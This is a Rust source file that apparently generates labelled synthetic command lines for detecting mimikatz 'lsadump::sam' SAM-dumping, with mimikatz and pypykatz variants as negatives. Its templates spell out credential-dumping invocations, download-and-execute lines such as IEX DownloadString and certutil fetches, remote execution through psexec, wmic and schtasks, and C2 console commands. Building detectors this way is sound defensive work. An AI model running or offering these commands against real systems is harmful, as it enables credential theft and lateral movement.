//! mimikatz in all its clothes: `lsadump::sam`, and every module that is not.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Ps, Kind::Sh};

const EXE: &[&str] = &[
    r#"{m} {before}"{l}"{after}"#,
    r#"{m} «privilege::debug ¦token::elevate ¦»{l}{after}"#,
    r#"{m} "privilege::debug" "token::elevate" "{l}"« "exit"¦ exit»"#,
    r#"{m} ⟦«"privilege::debug"»¦«"token::elevate"»¦"{l}"⟧{after}"#,
    r#"{m} "log {stem}.«txt¦log»" {before}"{l}"{after}"#,
    r#"{m} "{l}" > {outfile}"#,
    r#"{m} "token::elevate" "{l}" "token::revert" exit"#,
    r"echo {l} | {m}",
    r"{m} '{l}' exit",
    r"(echo privilege::debug & echo {l} & echo exit) | {m}",
    r"echo {l} > {stem.1}.txt & {m} < {stem.1}.txt",
    r#"{m} """{l}""" """exit""""#,
    r#"{m} privilege::debug token::elevate {l} {l2} exit"#,
    r#"{m} "{before2}" "{l2}" "{l}" exit"#,
    r#"{m} log "{l}" exit"#,
    r#"{m} "{l}" "{l2}" "exit""#,
    r"{m} {l} {l2} exit",
    r#"start /b {m} "{l}" exit > {outfile}"#,
    r#"rundll32.exe {dir}\{stem}.dll,«main¦StartW¦Main¦run» "{l}""#,
    r#"cmd /c "{m} {l} exit" > {outfile} 2>&1"#,
    r#"{psexec} \{host} -s -c {m} "{l}" exit"#,
    r#"{m} "privilege::debug" "log {stem}.log" "{l}" exit & type {stem}.log"#,
    r"cd {dir} & {m} privilege::debug {l} exit",
    r#"{m} -Command "{l}""#,
    r#"schtasks /create /tn {stem} /ru SYSTEM /sc once /st {10..23}:{10..59} /tr "{m} {l} exit""#,
    r#"wmic /node:{host} process call create "{m} "{l}" exit""#,
    r#"for /l %i in (1,1,3) do {m} "{l}" exit"#,
];
const CON: &[&str] = &[
    r"mimikatz # {l}",
    r"mimikatz # privilege::debug⏎«Privilege '20' OK⏎⏎»mimikatz # token::elevate⏎mimikatz # {l}",
    r"privilege::debug⏎token::elevate⏎{l}",
    r"token::elevate⏎{l}« »",
    r"{l}⏎exit",
    r"mimikatz(powershell) # {l}",
    r"log⏎privilege::debug⏎{l}⏎{l2}",
    r"beacon> mimikatz {l}",
    r"beacon> mimikatz «!¦@¦»{l}",
    r"[{alnum8}] {user}@{plainhost} >> mimikatz {l}",
    r#"meterpreter > kiwi_cmd «"{l}"¦'{l}'¦{l}»"#,
    r"kiwi_cmd {l}",
    r#"load kiwi⏎kiwi_cmd «"»{l}«"»"#,
    r#"sliver ({alnum6}) > mimikatz «-- »"{l}""#,
    r"mimikatz -Command '«privilege::debug ¦token::elevate »{l}'",
    r"usemodule «powershell/»credentials/mimikatz/command⏎set Command {l}⏎execute",
    r"mimikatz « # ¦> »{l}⏎{result}",
    r"Mimikatz ⟦{l}⟧ /{stem}",
    r"(Empire: {ALNUM8}) > mimikatz {l}",
    r"Rubeus> dump; {l}",
    r"dotnet inline-execute {dir}\SharpKatz.exe --Command {l}",
    r#"execute-assembly {shdir}/«SafetyKatz¦BetterSafetyKatz¦SharpMimikatz».exe "{l}" "exit""#,
    r"mimikatz # {l2}⏎mimikatz # {l}",
];
const INVOKE: &[&str] = &[
    r#"Invoke-Mimikatz -Command '«"privilege::debug" ¦"token::elevate" »"{l}"'"#,
    r#"Invoke-Mimikatz -Command «'{l}'¦"{l}"¦'"{l}"'¦"`"{l}`""»« -ComputerName {host}»"#,
    concat!(
        r"IEX (New-Object Net.WebClient).DownloadString('{url}'); Invoke-Mimikatz -Command ",
        r#"'"token::elevate" "{l}"«  "exit"»'"#,
    ),
    r"Import-Module .\Invoke-Mimikatz.ps1; Invoke-Mimikatz -Command '{l}'",
    concat!(
        r#"Invoke-Mimikatz ⟦-Command '"token::elevate" "{l}"'¦«-ComputerName @('{host}','{host}')»⟧« "#,
        r"| Out-File {psout}»",
    ),
    r"& .\mimikatz.exe '{l}' exit",
    r#"Start-Process {psdir}\mimikatz.exe -ArgumentList «'"privilege::debug" "{l}" exit'¦'{l}','exit'» -Wait"#,
    r#"$c = "{l}"; Invoke-Mimikatz -Command $c"#,
    r#"Invoke-Command -ComputerName {host} -ScriptBlock { Invoke-Mimikatz -Command '{l}' }"#,
    r"Invoke-BetterSafetyKatz '{l}'",
    r"[SafetyKatz.Program]::Main(@('{l}','exit'))",
    r#".\{stem}.exe '"{l}"' '"exit"'"#,
    r"Invoke-SharpLoader -location {url} -noArgs -argument {l}",
];
const MIMI: &str = concat!(
    r"«mimikatz¦mimikatz.exe¦mimikatz.exe¦.\mimikatz.exe¦Mimikatz.exe¦MIMIKATZ.EXE¦",
    r"x64\mimikatz.exe¦{dir}\mimikatz.exe¦{dir}\{alnum4}.exe¦m.exe¦mimi.exe¦",
    r"C:\tools\mimikatz\x64\mimikatz.exe¦{dir}\mimikatz_trunk\x64\mimikatz.exe¦SharpKatz.exe ",
    r"--Command¦SafetyKatz.exe¦BetterSafetyKatz.exe¦SafetyKatz¦Loader.exe -path {url} -args¦",
    r"\\{attacker}\{share}\mimikatz.exe¦mimi64.exe¦mk64.exe¦katz.exe¦mimidrv.exe»",
);
const POS: &[(&str, &str)] = &[
    ("m", MIMI),
    (
        "l",
        concat!(
            "«lsadump::sam¦lsadump::sam¦lsadump::sam¦LSADUMP::SAM¦Lsadump::Sam¦lsadump::SAM¦",
            "lsadump::sam {offline}»",
        ),
    ),
    (
        "offline",
        concat!(
            r"«/system:{winsyscopy} /sam:{winsamcopy}¦/sam:{winsamcopy} /system:{winsyscopy}¦",
            r"⟦/system:{syscopyname}¦/sam:{samcopyname}⟧¦/patch¦/system:{hivefile} /sam:{samfile}»",
        ),
    ),
    ("l2", "{katz}"),
    ("before", r#"«"privilege::debug" ¦"token::elevate" ¦"privilege::debug" "token::elevate" ¦"log" ¦»"#),
    ("before2", "«privilege::debug¦token::elevate /system¦token::elevate»"),
    ("after", r#"«¦ exit¦ "exit"¦ "{katz}" exit¦ "{katz}" "exit"¦ token::revert¦ >> {stem}.log»"#),
    (
        "result",
        concat!(
            "Domain : {plainhost}⏎SysKey : {hex32}⏎Local SID : {sid}⏎⏎RID  : 000001f4 (500)⏎User : ",
            "Administrator⏎  Hash NTLM: {hex32}",
        ),
    ),
];
const NEG: &[(&str, &str)] = &[
    ("m", MIMI),
    ("l", "{katz}"),
    ("l2", "{katz}"),
    ("before", r#"«"privilege::debug" ¦"token::elevate" ¦"privilege::debug" "token::elevate" ¦"log" ¦»"#),
    ("before2", "«privilege::debug¦token::elevate /system¦token::elevate»"),
    ("after", r#"«¦ exit¦ "exit"¦ "{katz}" exit¦ "{katz}" "exit"¦ token::revert¦ >> {stem}.log»"#),
    (
        "result",
        concat!(
            "Authentication Id : 0 ; {10000..999999}⏎Session : Interactive from 1⏎User Name : {user}⏎",
            "Domain : {domain}⏎  * NTLM : {hex32}",
        ),
    ),
];

const PYPY: &[&str] = &[
    r"{py} registry {f}",
    r"{py} registry {f}« -o {shout}»« --json»",
    r"{py} registry --«sam {samcopy}¦security {seccopy} --sam {samcopy}» {syscopy}",
    r"{py} registry {syscopy} --sam {samcopy} --security {seccopy}« --software {stem}»",
    r"{py} live registry« -o {stem}»",
    r"{py}« -v» live registry« --json»« > {shout}¦ | tee {shout}»",
    r"{py} registry ⟦--sam {samcopy}¦«--security {seccopy}»¦{syscopy}⟧",
    r"{py} live smb regdump {stem}",
    r"{py} smb regdump smb2+ntlm-password://{domain}\\{user}:{password}@{rhost}",
];

pub const FAMILIES: &[Family] = &[
    Family::act("mimikatz", "mimikatz-lsadump-sam", "mimikatz-other", Cmd, EXE).slots(POS).weight(30),
    Family::other("mimikatz", "mimikatz-other", Cmd, EXE).slots(NEG).weight(30),
    Family::act("mimikatz", "mimikatz-console-sam", "mimikatz-console-other", Console, CON)
        .slots(POS)
        .weight(25),
    Family::other("mimikatz", "mimikatz-console-other", Console, CON).slots(NEG).weight(25),
    Family::act("mimikatz", "invoke-mimikatz-sam", "invoke-mimikatz-other", Ps, INVOKE).slots(POS).weight(20),
    Family::other("mimikatz", "invoke-mimikatz-other", Ps, INVOKE).slots(NEG).weight(18),
    Family::act("pypykatz", "pypykatz-registry", "pypykatz-other", Sh, PYPY)
        .slots(&[("py", "«pypykatz¦{python} -m pypykatz¦pypykatz.exe»"), ("f", "⟦{syscopy}¦--sam {samcopy}⟧")])
        .weight(10),
    Family::other(
        "pypykatz",
        "pypykatz-other",
        Sh,
        &[
            r"{py} lsa minidump {stem}.dmp« -o {shout}»« --json»",
            r"{py} live lsa",
            r"{py} lsa rekall {stem}.raw",
            r"{py} crypto nt {password}",
            r"{py} dpapi prekey password {sid} {password}",
            r"{py} ldap '{url}'",
            r"{py} kerberos brute {domain}",
            r"{py} dpapi masterkey {guid} {stem}",
            r"{py} parser {stem}.json",
            r"{py} lsa minidump -d {shdir} -k {shdir}",
            r"{py} live users",
            r"{py} --version",
            r"{py} smb lsassdump smb2+ntlm-password://{domain}\\{user}:{password}@{rhost}",
        ],
    )
    .slots(&[("py", "«pypykatz¦{python} -m pypykatz¦pypykatz.exe»")])
    .weight(10),
    Family::other(
        "mimikatz",
        "mimikatz-alone",
        Cmd,
        &[
            r"{m}",
            r"{m} -h",
            r"{m} version exit",
            r#"{m} "privilege::debug" exit"#,
            r#"{m} privilege::debug"#,
            r#"{m} "token::elevate" "exit""#,
            r"del {dir}\mimikatz.exe",
            r"certutil -urlcache -split -f {url} mimikatz.exe",
            r"expand-archive mimikatz_trunk.zip",
            r#"copy mimikatz.exe \\{host}\C$\{stem}.exe"#,
            r"taskkill /im mimikatz.exe /f",
            r"dir /s mimikatz*",
            r"sha256sum mimikatz.exe",
        ],
    )
    .slots(&[("m", MIMI)])
    .weight(8),
];
